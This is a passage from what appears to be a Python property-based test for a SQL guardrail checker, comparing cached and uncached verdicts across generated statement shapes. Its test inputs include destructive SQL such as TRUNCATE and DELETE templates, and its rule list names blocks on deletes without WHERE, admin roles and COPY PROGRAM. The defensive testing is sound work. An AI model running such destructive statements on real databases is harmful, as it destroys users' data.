    "TRUNCATE t{}; SELECT {}", "WITH d AS (DELETE FROM t WHERE a = {} RETURNING *) SELECT * FROM d",
])


@settings(max_examples=400, deadline=None)
@given(st.lists(st.tuples(SHAPES, st.lists(NUMBERS, min_size=3, max_size=3)), min_size=2, max_size=12))
def test_template_cache_agrees_on_valid_statement_shapes(seq: list[tuple[str, list[str]]]) -> None:
    rules = [*ALL_RULES, _rule("delete_without_where", "role_admin", "copy_program", name="x")]
    cached = Guardrails(rules)
    fresh = Guardrails(rules, cache_size=0)
    # the same shapes with other integers: the second sighting builds a template, the third may use it
    again = [(shape, nums[k:] + nums[:k]) for k in (1, 2) for shape, nums in seq]
    lite = Guardrails(rules)
    for shape, nums in seq + seq + again:
        text = shape.format(*nums[: shape.count("{}")])
        want = fresh.check(text)
        assert cached.check(text) == want, text
        # texts=False (the tunnel): the same verdict and classes; only statement texts may be the template's
        got = lite.check(text, texts=False)
        assert (got.allowed, got.rule, got.message) == (want.allowed, want.rule, want.message), text
        assert [(st.classes, st.relations, st.prepared_name) for st in got.statements] == [
            (st.classes, st.relations, st.prepared_name) for st in want.statements], text
